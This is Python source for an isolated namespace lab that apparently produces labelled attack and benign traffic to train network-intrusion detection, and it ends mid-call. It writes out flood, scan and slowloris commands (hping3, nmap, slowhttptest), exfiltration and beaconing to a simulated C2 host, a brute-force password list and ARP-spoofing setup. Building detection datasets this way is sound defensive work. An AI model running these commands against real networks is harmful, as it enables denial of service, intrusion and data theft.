"""The real lab: one network namespace per host (servers, benign clients, attackers), joined by a
switch namespace whose bridge ports are veth pairs (LAN) or TAP pairs through a userspace relay that
delays, jitters and drops frames (WAN; tbf limits their rates); real daemons with private
configurations; tcpdump on a mirror of every frame entering the switch; and a schedule of attack
phases run with real tools. Everything it starts is stopped and every namespace deleted on exit, on
error and on SIGINT/SIGTERM.

The namespaces have no link to the host's network and no default route: no packet can leave them.
"""
import ipaddress
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import struct
import time

from . import daemons as D
from . import labels as L
from .pcapio import frame_info, read_pcap

HERE = os.path.dirname(os.path.abspath(__file__))
NS_PREFIX = "nslab-"
WORDS = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
         "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
         "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
         "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "qazwsx",
         "123qwe", "killer", "trustno1", "jordan", "jennifer", "zxcvbnm", "asdfgh", "hunter"]


class LabError(Exception):
    """A user-facing failure: one line saying what went wrong."""


def _sh(*cmd, check=True):
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
    if check and p.returncode != 0:
        raise LabError(f"`{' '.join(cmd)}` failed: {(p.stderr or p.stdout).strip()}")
    return p


def _pid_alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


def list_namespaces():
    p = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True, timeout=30)
    return [line.split()[0] for line in p.stdout.splitlines() if line.strip()]


def _kill_namespace_processes(ns):
    p = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True, timeout=30)
    pids = [int(x) for x in p.stdout.split() if x.isdigit()]
    for sig in (signal.SIGTERM, signal.SIGKILL):
        for pid in pids:
            try:
                os.kill(pid, sig)
            except ProcessLookupError:
                pass
        if sig == signal.SIGTERM and pids:
            time.sleep(0.5)


def remove_stale_namespaces():
    """Deletes lab namespaces (nslab-PID-*) whose lab process no longer runs."""
    removed = []
    for ns in list_namespaces():
        m = re.match(NS_PREFIX + r"(\d+)-", ns)
        if m and not _pid_alive(int(m.group(1))):
            _kill_namespace_processes(ns)
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=30)
            removed.append(ns)
    return removed


def _first_line(cmd):
    try:
        p = subprocess.run(cmd, capture_output=True, text=True, timeout=5)
    except (OSError, subprocess.TimeoutExpired):
        return None
    for line in (p.stdout + "\n" + p.stderr).splitlines():
        if line.strip():
            return line.strip()
    return None


TOOL_VERSION_CMDS = {
    "tcpdump": ["tcpdump", "--version"], "nmap": ["nmap", "--version"],
    "hping3": ["hping3", "--version"], "slowhttptest": ["slowhttptest", "-h"],
    "hydra": ["hydra", "-h"], "iperf3": ["iperf3", "--version"], "wrk": ["wrk", "-v"],
    "curl": ["curl", "--version"], "sshd": ["ssh", "-V"], "ethtool": ["ethtool", "--version"],
    "nginx": ["nginx", "-v"], "dnsmasq": ["dnsmasq", "--version"], "chronyd": ["chronyd", "-v"],
    "mosquitto": ["mosquitto", "-h"], "postgres": [D.PG_BIN + "/postgres", "--version"],
    "dovecot": ["dovecot", "--version"],
    "arpspoof": ["dpkg-query", "-W", "-f", "${Version}", "dsniff"],
}


def tool_versions():
    out = {}
    for tool, cmd in TOOL_VERSION_CMDS.items():
        if shutil.which(tool) or os.path.exists(cmd[0]) or (
                tool == "sshd" and os.path.exists("/usr/sbin/sshd")):
            line = _first_line(cmd)
            m = re.search(r"v?(\d+\.\d+(?:\.\d+)?(?:p\d+)?)", line or "")
            out[tool] = m.group(0) if m else line
    return out


# --- the network ------------------------------------------------------------------------------

# WAN link profiles: one-way delay (ms, each direction), jitter (ms, +-), loss (per frame, each
# direction), rates (Mbit/s) down to the host and up from it. A run draws each link's values inside
# these ranges from its --seed; lab.json records what was drawn and what the capture measured.
PROFILES = {
    "wifi": {"delay": (1, 4), "jitter": (0.5, 3), "loss": (0.01, 0.03), "down": (40, 90),
             "up": (20, 40)},
    "dsl": {"delay": (8, 20), "jitter": (0.5, 3), "loss": (0.0, 0.005), "down": (10, 25),
            "up": (1, 5)},
    "cable": {"delay": (5, 15), "jitter": (2, 6), "loss": (0.0, 0.01), "down": (30, 60),
              "up": (5, 15)},
    "mobile": {"delay": (25, 60), "jitter": (5, 20), "loss": (0.02, 0.05), "down": (5, 30),
               "up": (2, 10)},
    "remote": {"delay": (50, 100), "jitter": (1, 8), "loss": (0.0, 0.01), "down": (10, 40),
               "up": (5, 20)},
    "internet": {"delay": (15, 40), "jitter": (1, 5), "loss": (0.0, 0.005), "down": (50, 90),
                 "up": (50, 90)},
}
# The WAN profiles of the benign clients that are not on the LAN, shuffled per seed.
CLIENT_PROFILES = ["wifi", "wifi", "dsl", "cable", "mobile", "remote", "mobile"]
# Benign clients: (address, persona, link or None to draw one, prefers IPv6, session threads).
CLIENTS = [
    ("10.77.0.10", "office", "lan", False, 2),    # also the wrk burst
    ("10.77.0.11", "office", None, False, 1),
    ("10.77.0.12", "developer", None, True, 1),
    ("10.77.0.13", "media", None, False, 2),
    ("10.77.0.14", "iot", None, False, 1),
    ("10.77.0.15", "office", None, True, 1),
    ("10.77.0.16", "app", "lan", False, 2),
    ("10.77.0.17", "developer", None, False, 1),  # also the echo-port terminal session
    ("10.77.0.18", "media", "lan", False, 1),     # also the iperf3 bulk transfer
    ("10.77.0.19", "iot", None, True, 1),
]
# Every other host: namespace suffix -> (IPv4, static IPv6 or "", link).
INFRA = {
    "v": (L.VICTIM, L.VICTIM6, "lan"),
    "svc": (L.SERVICES, L.SERVICES6, "lan"),
    "gw": (L.RESOLVER, L.RESOLVER6, "lan"),
    "c2": (L.C2, L.C26, "internet"),
    "scan": (L.SCANNER, "", "lan"),
    "flood": (L.FLOODER, "", "lan"),
    "slow": (L.SLOW_HTTP, "", "lan"),
    "brute": (L.BRUTE_FORCER, "", "lan"),
    "exfil": (L.EXFILTRATOR, "", "lan"),
    "stuff": (L.STUFFER, "", "internet"),
    "dnsx": (L.DNS_EXFILTRATOR, "", "wifi"),
    "httpsx": (L.HTTPS_EXFILTRATOR, "", "dsl"),
    "beacon": (L.BEACONER, "", "cable"),
    "arp": (L.ARP_SPOOFER, "", "lan"),
    "nd": (L.ND_SPOOFER, L.ND_SPOOFER6, "lan"),
}
SWITCH, BRIDGE, MON, MON_PEER = "sw", "br0", "mon0", "mon1"


def mac_of(ipv4):
    a = [int(x) for x in ipv4.split(".")]
    return "02:4e:%02x:%02x:%02x:%02x" % tuple(a)


def plan_hosts(seed):
    """Every host of the lab: name, role, addresses, MAC, link (drawn from the seed)."""
    rng = random.Random(seed * 7919 + 17)
    profiles = CLIENT_PROFILES[:]
    rng.shuffle(profiles)
    hosts = {}
    for i, (addr, persona, link, v6, threads) in enumerate(CLIENTS):
        hosts[f"c{i}"] = {"role": "benign", "ipv4": addr, "ipv6": "", "persona": persona,
                          "profile": link or profiles.pop(), "prefer_v6": v6,
                          "session_threads": threads}
    for name, (addr, addr6, link) in INFRA.items():
        hosts[name] = {"role": "server" if name in ("v", "svc", "gw", "c2") else "attacker",
                       "ipv4": addr, "ipv6": addr6, "profile": link}
    for i, (name, h) in enumerate(sorted(hosts.items())):
        h["mac"] = mac_of(h["ipv4"])
        if h["profile"] != "lan":
            p = PROFILES[h["profile"]]
            draw = lambda lo_hi: round(rng.uniform(*lo_hi), 3)  # noqa: E731
            h["link"] = {"delay_ms": draw(p["delay"]), "jitter_ms": draw(p["jitter"]),
                         "loss": round(rng.uniform(*p["loss"]), 4),
                         "down_mbit": draw(p["down"]), "up_mbit": draw(p["up"]),
                         "seed": seed * 1000 + i}
    return hosts


class Lab:
    """Owns the namespaces and every process started in them; close() undoes everything."""

    def __init__(self, out_dir, scale, kinds, seed):
        self.out, self.scale, self.kinds, self.seed = out_dir, scale, kinds, seed
        self.tag = f"{NS_PREFIX}{os.getpid()}"
        self.ns = {}
        self.procs = []
        self.episodes = []
        self.phases = []
        self.skipped = []
        self.services = {}
        self.tmp = tempfile.mkdtemp(prefix="netsentry-lab-")
        os.chmod(self.tmp, 0o711)  # daemons that drop to their own users reach their folders
        self.tcpdump = None
        self.tcpdump_stderr = []
        self.relay = None
        self.hosts = plan_hosts(seed)

    # --- helpers ------------------------------------------------------------------------------

    def d(self, seconds, minimum=1.0):
        return max(minimum, seconds * self.scale)

    def n(self, count, minimum=100):
        return max(minimum, int(count * self.scale))

    def log(self, msg):
        print(f"lab: {msg}", flush=True)

    def start(self, role, cmd, **kw):
        p = subprocess.Popen(["ip", "netns", "exec", self.ns[role]] + cmd, start_new_session=True,
                             cwd=self.tmp, **kw)
        self.procs.append(p)
        return p

    def stop(self, p, sig=signal.SIGTERM, grace=3.0):
        if p.poll() is None:
            try:
                os.killpg(p.pid, sig)
                p.wait(timeout=grace)
            except ProcessLookupError:
                pass
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGKILL)
                p.wait(timeout=5)

    def run_bounded(self, role, cmd, seconds, grace=2.0):
        """Runs a tool in a namespace for at most `seconds`; returns (exit code or None if it was
        stopped at its time bound, output tail)."""
        p = self.start(role, cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        try:
            out, _ = p.communicate(timeout=seconds)
            code = p.returncode
        except subprocess.TimeoutExpired:
            self.stop(p, signal.SIGINT, grace=grace)
            out, _ = p.communicate()
            code = None
        return code, (out or "").strip().splitlines()[-3:]

    def pause(self, seconds):
        time.sleep(self.d(seconds))

    def sysctl(self, role, *settings):
        for s in settings:
            _sh("ip", "netns", "exec", self.ns[role], "sysctl", "-q", "-w", s, check=False)

    # --- setup --------------------------------------------------------------------------------

    @staticmethod
    def check_requirements():
        if os.geteuid() != 0:
            raise LabError("the real lab needs root to create network namespaces "
                           "(run it as root, or use --synthetic)")
        for tool in ("ip", "tc", "tcpdump", "curl"):
            if not shutil.which(tool):
                raise LabError(f"{tool} is not installed (see docs/lab.md for the packages)")
        if not os.path.exists("/dev/net/tun"):
            raise LabError("/dev/net/tun is missing: the WAN links need TAP devices")
        if not shutil.which("ethtool"):
            print("lab: ethtool is not installed: offloads stay on, captured packets may be "
                  "larger than the MTU", flush=True)
        deps = os.path.join(HERE, "..", "lab-deps")
        p = subprocess.run([deps, "--check"], capture_output=True, text=True, timeout=60)
        if p.returncode != 0:  # the phases and services of missing tools are skipped
            print(f"lab: {p.stdout.strip()}", flush=True)

    def create_network(self):
        """A switch namespace (a bridge whose ports' ingress is mirrored to the capture device)
        and one namespace per host, joined to the switch by a veth pair (LAN) or by a pair of TAP
        devices through the relay (WAN: delay, jitter, loss; tbf rate limits both ways)."""
        self.ns = {SWITCH: f"{self.tag}-{SWITCH}"}
        self.ns.update({name: f"{self.tag}-{name}" for name in self.hosts})
        for ns in self.ns.values():
            _sh("ip", "netns", "add", ns)
        sw = self.ns[SWITCH]
        # The switch itself says nothing: no IPv6 (no router solicitations, DAD, MLD), no
        # multicast snooping (no IGMP queries).
        self.sysctl(SWITCH, "net.ipv6.conf.all.disable_ipv6=1", "net.ipv6.conf.default.disable_ipv6=1")
        _sh("ip", "-n", sw, "link", "add", BRIDGE, "type", "bridge", "mcast_snooping", "0")
        _sh("ip", "-n", sw, "link", "add", MON, "type", "veth", "peer", "name", MON_PEER)
        for dev in (BRIDGE, MON, MON_PEER, "lo"):
            _sh("ip", "-n", sw, "link", "set", dev, "up")
        self._real_sized(SWITCH, MON_PEER)
        wan = []
        for name, h in self.hosts.items():
            port = f"p-{name}"
            if "link" in h:
                wan.append({"name": name, "a_netns": self.ns[name], "a_dev": "eth0",
                            "b_netns": sw, "b_dev": port, "delay_ms": h["link"]["delay_ms"],
                            "jitter_ms": h["link"]["jitter_ms"], "loss": h["link"]["loss"],
                            "seed": h["link"]["seed"]})
            else:
                _sh("ip", "link", "add", port, "netns", sw, "type", "veth", "peer", "name", "eth0",
                    "netns", self.ns[name])
        if wan:
            self._start_relay(wan)
        for name, h in self.hosts.items():
            self._configure_host(name, h)
        # The host scan's targets: routed through the victim, four of them answer.
        v = self.ns["v"]
        for addr in L.SWEEP_ALIVE:
            _sh("ip", "-n", v, "addr", "add", f"{addr}/32", "dev", "lo")
        _sh("ip", "-n", self.ns["scan"], "route", "add", L.SWEEP_NET, "via", L.VICTIM)
        # Every closed UDP port must answer at once, or nmap -sU slows to one port per second.
        self.sysctl("v", "net.ipv4.icmp_ratelimit=0")
        # The ARP spoofer forwards what it intercepts (a man in the middle), without redirects.
        self.sysctl("arp", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0",
                    "net.ipv4.conf.eth0.send_redirects=0")

    def _start_relay(self, links):
        config = os.path.join(self.tmp, "relay.json")
        with open(config, "w") as f:
            json.dump({"links": links}, f)
        ready = os.path.join(self.tmp, "relay.ready")
        self.relay_stats = os.path.join(self.tmp, "relay-stats.json")
        self.relay = subprocess.Popen([sys.executable, os.path.join(HERE, "relay.py"), "--config",
                                       config, "--ready", ready, "--stats", self.relay_stats],
                                      start_new_session=True)
        self.procs.append(self.relay)
        deadline = time.time() + 15
        while not os.path.exists(ready):
            if self.relay.poll() is not None or time.time() > deadline:
                raise LabError("the WAN relay did not start (TAP devices in namespaces)")
            time.sleep(0.05)

    def _configure_host(self, name, h):
        ns, sw, port = self.ns[name], self.ns[SWITCH], f"p-{name}"
        _sh("ip", "-n", sw, "link", "set", port, "master", BRIDGE, "mtu", "1500", "up")
        self._real_sized(SWITCH, port)
        # Every frame entering the switch is copied to the capture device, once.
        _sh("ip", "netns", "exec", sw, "tc", "qdisc", "add", "dev", port, "clsact")
        _sh("ip", "netns", "exec", sw, "tc", "filter", "add", "dev", port, "ingress", "protocol",
            "all", "u32", "match", "u32", "0", "0", "action", "mirred", "egress", "mirror", "dev",
            MON)
        if h["ipv6"]:  # servers keep their static address only
            self.sysctl(name, "net.ipv6.conf.eth0.accept_ra=0")
        _sh("ip", "-n", ns, "link", "set", "eth0", "address", h["mac"], "mtu", "1500")
        _sh("ip", "-n", ns, "addr", "add", f"{h['ipv4']}/24", "dev", "eth0")
        if h["ipv6"]:
            _sh("ip", "-n", ns, "addr", "add", f"{h['ipv6']}/64", "dev", "eth0", "nodad")
        _sh("ip", "-n", ns, "link", "set", "lo", "up")
        _sh("ip", "-n", ns, "link", "set", "eth0", "up")
        self._real_sized(name, "eth0")
        link = h.get("link")
        if link:
            self._tbf(name, "eth0", link["up_mbit"])
            self._tbf(SWITCH, port, link["down_mbit"])

    def _tbf(self, role, dev, mbit):
        burst = max(16000, int(mbit * 1e6 / 8 / 100))  # 10 ms at the line rate
        _sh("ip", "netns", "exec", self.ns[role], "tc", "qdisc", "add", "dev", dev, "root", "tbf",
            "rate", f"{mbit}mbit", "burst", str(burst), "latency", "100ms")

    def _real_sized(self, role, dev):
        if shutil.which("ethtool"):
            # Segmentation offloads would hand tcpdump 64 KB "packets"; the features need real ones.
            _sh("ip", "netns", "exec", self.ns[role], "ethtool", "-K", dev, "tso", "off", "gso",
                "off", "gro", "off", check=False)

    def start_capture(self):
        self.pcap = os.path.join(self.out, "capture.pcap")
        # -Z root: tcpdump would otherwise drop to its own user and may not write into --out.
        self.tcpdump = self.start(SWITCH, ["tcpdump", "-i", MON_PEER, "-s", "0", "-n", "-U", "-Z",
                                           "root", "-B", "16384", "-w", self.pcap],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        started = threading.Event()

        def read_stderr():
            for line in self.tcpdump.stderr:
                self.tcpdump_stderr.append(line.strip())
                if "listening on" in line:
                    started.set()

        threading.Thread(target=read_stderr, daemon=True).start()
        if not started.wait(15):
            raise LabError(f"tcpdump did not start: {' '.join(self.tcpdump_stderr[-2:])}")

    def stop_capture(self):
        time.sleep(0.5)  # let the last replies reach the bridge
        self.stop(self.tcpdump, signal.SIGINT, grace=10)
        time.sleep(0.2)
        stats = {}
        for line in self.tcpdump_stderr:
            m = re.match(r"(\d+) packets? (captured|received by filter|dropped by kernel)", line)
            if m:
                stats[m.group(2).replace(" ", "_")] = int(m.group(1))
        return stats

    # --- servers ------------------------------------------------------------------------------

    def daemon(self, name, role, cmd, ready_port=None, ready_addr=None, proto="tcp"):
        """Starts a daemon in a namespace; waits (bounded) until it listens when a port is given."""
        self.log(f"{name} in {role}: {' '.join(cmd)}")
        log = open(os.path.join(self.tmp, f"{name}.log"), "w")
        p = self.start(role, cmd, stdout=log, stderr=subprocess.STDOUT)
        self.services[name] = {"namespace": role, "command": " ".join(cmd), "proc": p}
        if ready_port:
            flag = "-tln" if proto == "tcp" else "-uln"
            deadline = time.time() + 30
            while time.time() < deadline and p.poll() is None:
                out = _sh("ip", "netns", "exec", self.ns[role], "ss", "-H", flag, check=False).stdout
                if f":{ready_port} " in out:
                    break
                time.sleep(0.2)
        if p.poll() is not None:
            with open(os.path.join(self.tmp, f"{name}.log")) as f:
                tail = f.read().strip().splitlines()[-3:]
            self.services[name]["failed"] = tail
            self.skipped.append(f"service {name}: exited at start: {' | '.join(tail)}")
            self.log(f"{name} did not start: {' | '.join(tail)}")
            return False
        return True

    def start_servers(self):
        ready = os.path.join(self.tmp, "servers.ready")
        self.start("v", [sys.executable, os.path.join(HERE, "servers.py"), "--bind", L.VICTIM,
                         "--answer6", L.VICTIM6, "--ready", ready], stdout=subprocess.DEVNULL)
        c2_ready = os.path.join(self.tmp, "c2-dns.ready")
        self.start("c2", [sys.executable, os.path.join(HERE, "servers.py"), "--bind", L.C2,
                          "--services", "dns", "--zone", L.C2_ZONE, "--ready", c2_ready],
                   stdout=subprocess.DEVNULL)
        if shutil.which("iperf3"):
            self.start("v", ["iperf3", "-s", "-B", L.VICTIM], stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
        rng = random.Random(self.seed)
        self.up = {"web_http"}
        self.ssh_key = None
        if D.available("sshd"):
            self.ssh_key = D.client_key(self.tmp)
            self.scp_dir = os.path.join(self.tmp, "scp")
            os.makedirs(self.scp_dir, exist_ok=True)
            if self.daemon("sshd", "v", D.sshd(self.tmp, [L.VICTIM, L.VICTIM6], self.ssh_key), 22):
                self.up |= {"ssh", "scp"}
        self.sshd = "ssh" in self.up
        if D.available("nginx"):
            www = os.path.join(self.tmp, "www")
            self.assets = D.web_content(www, rng)
            cert, key = D.make_certificate(self.tmp, "intranet", [
                "intranet.lab", "www.lab", "api.lab", "files.lab", "media.lab", L.VICTIM, L.VICTIM6])
            if self.daemon("nginx", "v", D.nginx(self.tmp, "v", [L.VICTIM, L.VICTIM6], cert, key,
                                                  www, proxy_login=L.VICTIM), 443):
                self.up |= {"web_https", "api", "download", "stream"}
            c2www = os.path.join(self.tmp, "c2www")
            os.makedirs(c2www, exist_ok=True)
            cert, key = D.make_certificate(self.tmp, "c2", [f"update.{L.C2_ZONE}",
                                                            f"api.{L.C2_ZONE}", L.C2])
            if self.daemon("nginx-c2", "c2", D.nginx(self.tmp, "c2", [L.C2, L.C26], cert, key,
                                                      c2www), 443):
                self.up.add("c2_https")
        else:
            self.assets = []
        if D.available("dnsmasq"):
            if self.daemon("dnsmasq", "gw", D.dnsmasq(self.tmp, "eth0", [L.RESOLVER, L.RESOLVER6],
                                                      L.VICTIM, [(L.C2_ZONE, L.C2)],
                                                      "::,constructor:eth0"), 53, proto="udp"):
                self.up.add("resolver")
        if D.available("chronyd"):
            if self.daemon("chronyd", "svc", D.chrony_server(self.tmp, L.SERVICES,
                                                             ["10.77.0.0/16", "fd77::/64"])):
                self.up.add("ntp")
        if D.available("mosquitto"):
            if self.daemon("mosquitto", "svc", D.mosquitto(self.tmp, [L.SERVICES, L.SERVICES6]),
                           1883):
                self.up.add("mqtt")
        if D.available("smtp"):
            if self.daemon("smtp", "svc", D.smtp(L.SERVICES), 25):
                self.up.add("mail")
        self.mail_users = {name: f"pw-{name}-{rng.getrandbits(24):x}"
                           for name, h in self.hosts.items() if h["role"] == "benign"}
        if D.available("dovecot"):
            if self.daemon("dovecot", "svc", D.dovecot(self.tmp, [L.SERVICES, L.SERVICES6],
                                                       self.mail_users), 143):
                self.up.add("imap")
        self.db_password = f"lab-{rng.getrandbits(32):x}"
        if D.available("postgres"):
            try:
                data, sockdir = D.postgres_init(self.tmp, self.db_password)
                if self.daemon("postgres", "svc", D.postgres(data, sockdir,
                                                             [L.SERVICES, L.SERVICES6]), 5432):
                    self.up.add("db")
            except (subprocess.SubprocessError, OSError) as e:
                self.skipped.append(f"service postgres: initdb failed: {e}")
        for path in (ready, c2_ready):
            deadline = time.time() + 15
            while not os.path.exists(path):
                if time.time() > deadline:
                    raise LabError("the lab's servers did not start within 15 s")
                time.sleep(0.1)

    def start_benign(self, max_seconds):
        """One client process per benign host (and an NTP client each)."""
        procs = []
        for i, (name, h) in enumerate(sorted((n, h) for n, h in self.hosts.items()
                                             if h["role"] == "benign")):
            tmp = os.path.join(self.tmp, f"host-{name}")
            os.makedirs(tmp, exist_ok=True)
            config = {
                "name": name, "addr": h["ipv4"], "seed": self.seed * 100 + i,
                "max_seconds": max_seconds, "tmp": tmp, "ssh_key": self.ssh_key or "",
                "persona": h["persona"], "prefer_v6": h["prefer_v6"], "ipv6": True,
                "session_threads": h["session_threads"], "victim": L.VICTIM,
                "victim6": L.VICTIM6, "services": L.SERVICES, "services6": L.SERVICES6,
                "resolver": L.RESOLVER if "resolver" in self.up else L.VICTIM,
                "resolver6": L.RESOLVER6 if "resolver" in self.up else "",
                "assets": self.assets, "scp_dir": getattr(self, "scp_dir", ""),
                "db_password": self.db_password, "mail_user": name,
                "mail_password": self.mail_users[name], "services_up": sorted(self.up),
                "dns_mean_s": 4.0 if h["persona"] == "app" else 12.0, "monitor_pings": True,
                "echo_session": h["ipv4"] == "10.77.0.17",
            }
            path = os.path.join(tmp, "host.json")
            with open(path, "w") as f:
                json.dump(config, f)
            procs.append(self.start(name, [sys.executable, os.path.join(HERE, "clients.py"),
                                           "host", "--config", path]))
            if "ntp" in self.up:
                procs.append(self.start(name, D.chrony_client(self.tmp, name, L.SERVICES, 6, 8),
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        return procs

    # --- phases -------------------------------------------------------------------------------

    def phase(self, kind, role, tool, cmd, seconds, description, dst=L.VICTIM, src=None,
              grace=2.0):
        """Runs one attack episode and labels it with the time around the tool run."""
        if kind not in self.kinds:
            return
        if not shutil.which(tool):
            self.skipped.append(f"{kind} ({description}): {tool} is not installed")
            self.log(f"skipping {kind} ({description}): {tool} is not installed")
            return
        self.log(f"{kind}: {' '.join(cmd)}")
        start = time.time()
        code, tail = self.run_bounded(role, cmd, seconds, grace)
        end = time.time()
        src = src or self.hosts[role]["ipv4"]
        self.episodes.append(L.Episode(kind, src, dst, start, end, tool, description))
        self.phases.append({"kind": kind, "src": src, "command": " ".join(cmd),
                            "seconds": round(end - start, 3),
                            "exit": "time bound" if code is None else code, "output_tail": tail})

    def benign(self, name, role, cmd, seconds):
        if not shutil.which(cmd[0]):
            self.skipped.append(f"benign {name}: {cmd[0]} is not installed")
            return
        self.log(f"benign {name}: {' '.join(cmd)}")
        start = time.time()
        code, tail = self.run_bounded(role, cmd, seconds)
        self.phases.append({"kind": "benign", "name": name, "command": " ".join(cmd),
                            "seconds": round(time.time() - start, 3),
                            "exit": "time bound" if code is None else code, "output_tail": tail})

    def background(self, kind, role, cmd, seconds, dst, tool, description, needs=None):
        """Starts an episode that runs while the other phases go on; its label ends when the
        tool exits."""
        if kind not in self.kinds:
            return None
        if needs and needs not in self.up:
            self.skipped.append(f"{kind}: its server ({needs}) is not running")
            return None
        self.log(f"{kind} (background, {seconds:.0f} s): {' '.join(cmd[2:])}")
        started = time.time()
        proc = self.start(role, cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        ended = threading.Event()
        ended.at = None

        def watch():
            proc.wait()
            ended.at = time.time()
            ended.set()

        threading.Thread(target=watch, daemon=True).start()
        return {"kind": kind, "role": role, "proc": proc, "seconds": seconds, "started": started,
                "ended": ended, "dst": dst, "tool": tool, "description": description}

    def finish(self, bg):
        if not bg:
            return
        ended, proc = bg["ended"], bg["proc"]
        ended.wait(timeout=max(0.0, bg["started"] + bg["seconds"] + 15 - time.time()))
        if not ended.is_set():
            self.stop(proc)
            ended.wait(5)
        src = self.hosts[bg["role"]]["ipv4"]
        self.episodes.append(L.Episode(bg["kind"], src, bg["dst"], bg["started"], ended.at,
                                       bg["tool"], bg["description"]))
        self.phases.append({"kind": bg["kind"], "src": src,
                            "seconds": round(ended.at - bg["started"], 3),
                            "exit": proc.returncode})

    def schedule(self):
        s, victim = self.scale, L.VICTIM
        py, clients = sys.executable, os.path.join(HERE, "clients.py")
        self.pause(8)
        # wrk has no rate limit: a short burst (~5,000 requests/s here) is benign load, not a flood.
        self.benign("wrk", "c0", ["wrk", "-t1", "-c2", f"-d{self.d(2):.0f}s",
                                  f"http://{victim}/size/2000"], self.d(2) + 10)
        background = []
        seconds = self.d(60, 10)
        background.append(self.background(
            "exfiltration", "exfil", [py, clients, "exfil", "--victim", victim, "--port", "4444",
                                      "--seconds", f"{seconds:.1f}", "--seed", str(self.seed)],
            seconds, victim, "python3",
            f"low-rate exfiltration: 200-600 bytes every second for {seconds:.0f} s to port 4444"))
        c2_resolve = f"update.{L.C2_ZONE}:443:{L.C2}"
        seconds = self.d(150, 40)
        interval = 15.0 if s >= 0.5 else 6.0
        background.append(self.background(
            "c2_beacon", "beacon",
            [py, clients, "beacon", "--url", f"https://update.{L.C2_ZONE}/updates/check",
             "--resolve", c2_resolve, "--resolver", L.RESOLVER, "--interval", str(interval),
             "--jitter", "0.4", "--seconds", f"{seconds:.1f}", "--seed", str(self.seed)],
            seconds, L.C2, "curl",
            f"command-and-control beaconing: an HTTPS GET every {interval:.0f} s +-40 % to "
            f"update.{L.C2_ZONE} for {seconds:.0f} s", needs="c2_https"))
        seconds = self.d(120, 40)
        background.append(self.background(
            "https_exfiltration", "httpsx",
            [py, clients, "https-exfil", "--url", f"https://api.{L.C2_ZONE}/upload", "--resolve",
             f"api.{L.C2_ZONE}:443:{L.C2}", "--resolver", L.RESOLVER, "--seconds",
             f"{seconds:.1f}", "--seed", str(self.seed)],
            seconds, L.C2, "curl",
            f"low-rate exfiltration over HTTPS: 300-2000 byte uploads every 8-25 s to "
            f"api.{L.C2_ZONE} for {seconds:.0f} s", needs="c2_https"))
        seconds = self.d(90, 30)
        background.append(self.background(
            "dns_exfiltration", "dnsx",
            [py, clients, "dns-exfil", "--resolver", L.RESOLVER, "--zone", f"t.{L.C2_ZONE}",
             "--seconds", f"{seconds:.1f}", "--seed", str(self.seed)],
            seconds, L.RESOLVER, "python3",
            f"low-rate exfiltration over DNS: base32 data in A queries for *.t.{L.C2_ZONE} "
            f"through the resolver, one every 1-4 s for {seconds:.0f} s", needs="resolver"))
        self.pause(3)
        nmap_common = ["-n", "-Pn", "-T4", "--max-retries", "1"]
        self.phase("port_scan", "scan", "nmap",
                   ["nmap", "-sS", "-p", "1-1000"] + nmap_common + [victim],
                   self.d(30, 15), "TCP SYN scan of ports 1-1000 (nmap -sS)")
        self.pause(4)
        self.phase("port_scan", "scan", "nmap",
                   ["nmap", "-sT", "-p", "1-1000"] + nmap_common + [victim],
                   self.d(30, 15), "TCP connect scan of ports 1-1000 (nmap -sT)")
        self.pause(4)
        self.phase("port_scan", "scan", "nmap",
                   ["nmap", "-sU", "--top-ports", str(self.n(100, 20))] + nmap_common + [victim],
                   self.d(40, 15), "UDP scan of the most common ports (nmap -sU)")
        self.pause(4)
        self.phase("host_scan", "scan", "nmap",
                   ["nmap", "-sn", "-n", "-T4", "--max-retries", "1", "-PE", "-PS22,80,443",
                    "--send-ip", L.SWEEP_NET], self.d(30, 15),
                   "ping sweep of 10.77.1.0/24 (nmap -sn -PE -PS22,80,443)", dst="")
        self.pause(4)
        self.phase("service_scan", "scan", "nmap",
                   ["nmap", "-sV", "--version-intensity", "5" if s >= 0.5 else "2", "-p",
                    "7,21,22,53,80,443,4444,5201" if s >= 0.5 else "21,22,80,443"]
                   + nmap_common + [victim], self.d(60, 15),
                   "service and version detection of the open ports (nmap -sV)")
        self.pause(4)
        self.benign("iperf3", "c8", ["iperf3", "-c", victim, "-t", f"{self.d(5):.0f}", "-b", "40M"],
                    self.d(5) + 15)
        self.pause(4)
        # hping3 --flood ignores -c and sends ~100k packets/s; a fixed interval and count keep
        # each flood bounded (and the capture a few MB) while still far above any benign rate.
        self.phase("syn_flood", "flood", "hping3",
                   ["hping3", "-q", "-S", "-p", "80", "-i", "u50", "-c", str(self.n(60000)), victim],
                   self.d(10, 5), "SYN flood to port 80 (hping3 -S -i u50)")
        self.pause(4)
        self.phase("udp_flood", "flood", "hping3",
                   ["hping3", "-q", "--udp", "-p", "9999", "-d", "100", "-i", "u100", "-c",
                    str(self.n(40000)), victim],
                   self.d(10, 5), "UDP flood to port 9999, 100-byte payloads (hping3 --udp -i u100)")
        self.pause(4)
        self.phase("icmp_flood", "flood", "hping3",
                   ["hping3", "-q", "--icmp", "-d", "56", "-i", "u100", "-c", str(self.n(30000)),
                    victim], self.d(8, 4), "ICMP echo flood (hping3 --icmp -i u100)")
        self.pause(4)
        slow = self.d(30, 10)
        self.phase("slow_http", "slow", "slowhttptest",
                   ["slowhttptest", "-H", "-c", str(self.n(150, 50)), "-r", "50", "-i", "5",
                    "-l", f"{slow:.0f}", "-x", "24", "-p", "3", "-u", f"http://{victim}/"],
                   slow + 10, "slowloris: partial headers every 5 s (slowhttptest -H)")
        self.pause(4)
        self.phase("slow_post", "slow", "slowhttptest",
